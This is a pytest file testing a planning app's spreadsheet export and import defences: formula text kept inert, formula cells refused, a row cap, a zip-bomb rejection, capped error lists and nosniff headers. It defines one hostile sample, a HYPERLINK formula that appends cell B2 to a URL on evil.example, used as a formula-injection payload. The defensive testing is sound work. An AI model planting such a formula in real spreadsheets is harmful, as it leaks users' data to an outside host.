"""The plan workbook keeps user text as text, refuses formulas naming the cell, and stops at the row cap."""

import io

from openpyxl import load_workbook

from kinerja.core.access import SYSTEM
from kinerja.core.models import AuditEvent
from kinerja.core.tests.files import odt_bomb
from kinerja.planning import services
from kinerja.planning.importexport import INDICATORS_SHEET, NODES_SHEET, export_plan, import_plan
from kinerja.planning.models import Indicator, PlanNode
from kinerja.planning.tests.test_importexport import GOOD_INDICATOR, GOOD_NODES, _state, _workbook
from kinerja.tests.versions import current_version

HOSTILE = '=HYPERLINK("http://evil.example/?"&B2,"klik")'


def test_indicator_text_starting_with_equals_is_exported_as_text_and_survives_a_round_trip(world, login):
    services.indicator_update(
        user=SYSTEM,
        indicator=world.program_indicator,
        data={"definition": HOSTILE, "data_source": "+62 dinkes"},
        expected_version=current_version(world.program_indicator),
    )
    content = login(world.users["planner"]).get(f"/plan/periods/{world.period.pk}/export.xlsx").content
    sheet = load_workbook(io.BytesIO(content))[INDICATORS_SHEET]
    header = [c.value for c in sheet[1]]
    row = next(r for r in sheet.iter_rows(min_row=2) if r[header.index("indikator")].value == "Angka kematian ibu")
    cell = row[header.index("definisi")]
    assert cell.data_type == "s" and cell.value == HOSTILE
    result = import_plan(user=world.users["planner"], period=world.period, data=content, filename="rencana.xlsx")
    assert result.ok, result.errors
    world.program_indicator.refresh_from_db()
    assert world.program_indicator.definition == HOSTILE and world.program_indicator.data_source == "+62 dinkes"


def test_a_formula_cell_in_the_plan_workbook_is_refused_naming_the_sheet_and_cell(world):
    before = _state()
    data = _workbook(world, GOOD_NODES, [{**GOOD_INDICATOR, "target_2026": "=1000+300"}])
    workbook = load_workbook(io.BytesIO(data))
    workbook[NODES_SHEET]["E3"] = '=CONCAT("Peng","elolaan")'
    buffer = io.BytesIO()
    workbook.save(buffer)
    result = import_plan(user=world.users["planner"], period=world.period, data=buffer.getvalue())
    messages = {(e.sheet, e.row, e.message) for e in result.errors}
    assert (NODES_SHEET, 3, "Sheet Simpul, cell E3 holds a formula; type the value itself.") in messages
    assert any(e.sheet == INDICATORS_SHEET and "holds a formula" in e.message for e in result.errors)
    assert _state() == before


def test_a_plan_workbook_beyond_the_row_cap_or_a_zip_bomb_is_refused_and_nothing_is_saved(world, settings):
    settings.IMPORT_MAX_ROWS = 5
    before = _state()
    rows = [["program", f"1.02.{n:02d}", "", "dinkes", f"Program {n}", ""] for n in range(3, 30)]
    result = import_plan(user=world.users["planner"], period=world.period, data=_workbook(world, rows, []))
    assert [e.message for e in result.errors] == [
        "Sheet Simpul has more than 5 rows to import; nothing was read beyond that."
    ]
    assert _state() == before
    bomb = import_plan(user=world.users["planner"], period=world.period, data=odt_bomb())
    assert "would unpack" in bomb.errors[0].message and _state() == before


def test_plan_import_errors_are_bounded_with_a_count_of_the_rest(world, settings):
    settings.IMPORT_MAX_ERRORS = 4
    rows = [["program", f"9.99.{n:02d}", "", "tidakada", f"Program {n}", ""] for n in range(30)]
    result = import_plan(user=world.users["planner"], period=world.period, data=_workbook(world, rows, []))
    assert len(result.errors) == 5 and result.errors[-1].message == "… and 26 more errors."
    assert PlanNode.objects.filter(code__startswith="9.99").count() == 0
    assert AuditEvent.objects.filter(action="import").count() == 0
    assert Indicator.objects.filter(name__startswith="=").count() == 0


def test_the_plan_export_is_served_as_an_attachment_with_nosniff(world, login):
    response = login(world.users["planner"]).get(f"/plan/periods/{world.period.pk}/export.xlsx")
    assert response["Content-Disposition"].startswith("attachment") and response["X-Content-Type-Options"] == "nosniff"
    assert export_plan(user=world.users["planner"], period=world.period)[:2] == b"PK"
